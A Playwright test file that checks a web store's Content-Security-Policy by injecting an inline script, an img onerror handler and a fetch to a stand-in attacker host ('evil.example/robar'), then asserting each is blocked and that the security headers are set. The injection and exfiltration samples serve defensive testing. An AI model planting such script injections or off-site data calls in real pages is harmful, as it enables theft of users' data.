import { BASE_URL } from '../support/env';
import { expect, test } from '../support/fixtures';
import { watchContentSecurityPolicy } from '../support/test';

/*
 * Every other spec fails on any Content-Security-Policy violation, so the app
 * is proven to work under its policy. This one proves the policy is enforced:
 * what an attacker would inject is refused and reported.
 */
test.use({ expectContentSecurityPolicyViolations: true });

test('the Content-Security-Policy refuses injected scripts, off-site loads and framing', async ({ browser }) => {
  const context = await browser.newContext();
  const violations = watchContentSecurityPolicy(context);
  const page = await context.newPage();
  await page.goto('/store/demo');
  await expect(page.getByText('Tienda Demo').first()).toBeVisible();

  const outcome = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__inyectado = true;';
    document.body.append(inline);
    const handler = document.createElement('img');
    handler.setAttribute('src', 'data:,');
    handler.setAttribute('onerror', 'window.__handler = true');
    document.body.append(handler);
    const offSite = await fetch('https://evil.example/robar').then(
      () => 'enviado',
      () => 'bloqueado',
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    const w = window as unknown as { __inyectado?: boolean; __handler?: boolean };
    return { inline: w.__inyectado ?? false, handler: w.__handler ?? false, offSite };
  });
  expect(outcome).toEqual({ inline: false, handler: false, offSite: 'bloqueado' });
  expect(violations.some((v) => v.includes("script-src 'self'"))).toBe(true);
  expect(violations.some((v) => v.includes('connect-src'))).toBe(true);

  const response = await page.request.get(`${BASE_URL}/store/demo`);
  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("frame-ancestors 'none'");
  expect(response.headers()['x-content-type-options']).toBe('nosniff');
  expect(response.headers()['referrer-policy']).toBe('strict-origin-when-cross-origin');
  await context.close();
});
